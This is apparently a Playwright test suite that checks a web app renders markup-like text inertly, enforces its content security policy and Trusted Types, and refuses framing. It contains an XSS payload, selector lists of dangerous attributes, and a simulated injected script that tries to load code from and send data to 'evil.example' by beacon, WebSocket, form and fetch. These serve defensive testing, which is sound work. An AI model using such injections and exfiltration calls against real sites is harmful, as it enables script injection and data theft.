import { expect, type Page } from '@playwright/test';
import { accounts } from '../support/accounts.ts';
import { respondWithHostileTexts, HOSTILE_TEXTS } from '../support/hostile-texts.ts';
import { journey } from '../support/journey.ts';

/** Selectors for elements and attributes that exist only if a text was treated as markup or as an address. */
const PLANTED = [
  '[onload], [onerror], [onfocus], [onbegin], [ontoggle], [onstart], [onmouseover], [onanimationstart]',
  'iframe, object, embed, base, isindex, marquee, math, video, audio, meta[http-equiv=refresh]',
  '[href^="javascript:" i], [src^="javascript:" i], [action^="javascript:" i], [href^="data:" i], [src^="data:text" i]',
].join();

/** Pages of customers and back-office users, whether their list is long enough to show every text, and whether its rows can be opened. */
const PAGES: readonly (readonly [path: string, hasList: boolean, opens: boolean])[] = [
  ['/invoices?size=100', true, true],
  ['/customers?size=100', true, true],
  ['/users', true, true],
  ['/manage-invoices?size=100', true, true],
  ['/manage-customers?size=100', true, true],
  ['/manage-users', true, true],
  ['/intake?size=100', true, true],
  ['/manage-providers', true, false],
  ['/export', false, false],
  ['/failed-mails', false, false],
  ['/webhooks', false, false],
  ['/trail', false, false],
  ['/edit-profile', false, false],
];

/** The number of hostile texts that the page shows unchanged. */
const countTexts = (page: Page) =>
  page.evaluate(
    (texts) => texts.filter((text) => document.body.textContent.includes(text)).length,
    HOSTILE_TEXTS,
  );

journey.describe('texts that look like markup (CVE-2026-5568, CVE-2018-15633, CVE-2018-16459)', () => {
  journey('are shown as text everywhere and never run', async ({ page, openWithSession }) => {
    journey.slow();
    const alerts: string[] = [];
    page.on('dialog', (dialog) => {
      alerts.push(`${dialog.message()} at ${page.url()}`);
      void dialog.dismiss();
    });
    // Checks the listener itself: a page without protection raises an alert.
    await page.setContent('<svg onload=alert(1)>');
    await expect.poll(() => alerts.length).toBe(1);
    alerts.length = 0;

    await openWithSession(accounts.superAdmin);
    await respondWithHostileTexts(page);
    for (const [path, hasList, opens] of PAGES) {
      await page.goto(path);
      await expect(page.getByRole('main')).toBeVisible();
      await expect(page.locator('[aria-busy=true]')).toHaveCount(0);
      await expect
        .poll(() => countTexts(page), path)
        .toBeGreaterThanOrEqual(hasList ? HOSTILE_TEXTS.length : 1);
      expect(await page.locator(PLANTED).count(), path).toBe(0);
      if (!opens) continue;
      await page.locator('tbody [data-slot=open]').first().click();
      await expect(page.getByRole('dialog')).toContainText('alert(1)');
      await expect(page.locator('[aria-busy=true]')).toHaveCount(0);
      expect(await page.locator(PLANTED).count(), `${path}, opened`).toBe(0);
    }
    for (const text of HOSTILE_TEXTS.slice(0, 3)) {
      await page.goto(`/forgot-password?email=${encodeURIComponent(text)}`);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      expect(await page.locator(PLANTED).count()).toBe(0);
    }
    expect(alerts).toEqual([]);
  });

  journey('could run nothing and send nothing if one were injected', async ({ page, browserErrors }) => {
    browserErrors.expect(/content policy|Content Security Policy|Trusted|Refused to|violates/);
    await page.goto('/forgot-password');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const { refused, thrown } = await page.evaluate(tryInjections, REFUSED_BY.length);
    // Trusted Types: no text is run as code or used as markup.
    expect(thrown).toEqual([
      ...['eval', 'Function', 'innerHTML', 'insertAdjacentHTML', 'srcdoc', 'script', 'Worker'],
      ...['handler', 'object'],
    ]);
    expect(refused).toEqual(REFUSED_BY);
  });

  journey('cannot be reached in a frame of another page', async ({ page, browserErrors }) => {
    browserErrors.expect(/frame-ancestors|X-Frame-Options/);
    const pages: Readonly<Record<string, string>> = {
      '/framing': '<iframe src="/framed"></iframe><iframe src="/forgot-password"></iframe>',
      '/framed': 'a page that lets itself be framed',
    };
    await page.route(/\/fram(?:ing|ed)$/, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: pages[new URL(route.request().url()).pathname] ?? '',
      }),
    );
    await page.goto('/framing');
    await expect
      .poll(() => page.frames().map((frame) => new URL(frame.url()).pathname))
      .toEqual(['/framing', '/framed', expect.not.stringContaining('forgot-password')]);
    expect(page.frames()[2]?.url()).toMatch(/^chrome-error:/);
  });
});

/** The rules of the content policy that refuse what `tryInjections` tries. */
const REFUSED_BY = [
  ...['base-uri', 'connect-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'media-src'],
  ...['require-trusted-types-for', 'style-src-elem'],
];

/**
 * Runs in the page like an injected script.
 * @param count how many rules are waited for
 * @returns the actions that throw immediately, and the rules of the content policy that refuse the others
 */
async function tryInjections(count: number): Promise<{ refused: string[]; thrown: string[] }> {
  const refused = new Set<string>();
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
    refused.add(effectiveDirective),
  );
  const elsewhere = 'https://evil.example/';
  const append = (name: string, attributes: Record<string, string>) => {
    const element = document.createElement(name);
    for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
    document.body.append(element);
    return element;
  };
  const tries: Record<string, () => unknown> = {
    eval: () => {
      window.eval('1');
    },
    Function: () => Reflect.construct(Function, ['return 1']),
    innerHTML: () => (document.body.appendChild(document.createElement('p')).innerHTML = '<b>x</b>'),
    insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
    srcdoc: () => append('iframe', { srcdoc: '<b>x</b>' }),
    script: () => append('script', { src: `${elsewhere}x.js` }),
    Worker: () => new Worker('data:text/javascript,0'),
    handler: () => append('p', { onclick: 'alert(1)' }).click(),
    beacon: () => navigator.sendBeacon(elsewhere, 'x'),
    socket: () => new WebSocket('wss://evil.example/'),
    image: () => append('img', { src: `${elsewhere}x.png` }),
    media: () => append('video', { src: `${elsewhere}x.mp4` }),
    frame: () => append('iframe', { src: elsewhere }),
    object: () => append('object', { data: `${elsewhere}x.swf` }),
    base: () => document.head.append(Object.assign(document.createElement('base'), { href: elsewhere })),
    sheet: () => append('link', { rel: 'stylesheet', href: `${elsewhere}x.css` }),
    font: () => new FontFace('x', `url(${elsewhere}x.woff2)`).load().catch(() => undefined),
    form: () => {
      const form = append('form', { action: elsewhere, method: 'post' });
      if (form instanceof HTMLFormElement) form.submit();
    },
  };
  const thrown: string[] = [];
  // The call of the test itself may use eval; code that runs after it is restricted by the page's policy.
  await new Promise((resolve) => setTimeout(resolve));
  for (const [name, attempt] of Object.entries(tries))
    try {
      attempt();
    } catch {
      thrown.push(name);
    }
  await fetch(elsewhere).catch(() => undefined);
  // A busy machine reports what it refuses later; what else is refused is reported meanwhile.
  for (let waits = 0; waits < 10 || (refused.size < count && waits < 200); waits += 1)
    await new Promise((resolve) => setTimeout(resolve, 50));
  return { refused: [...refused].sort(), thrown };
}
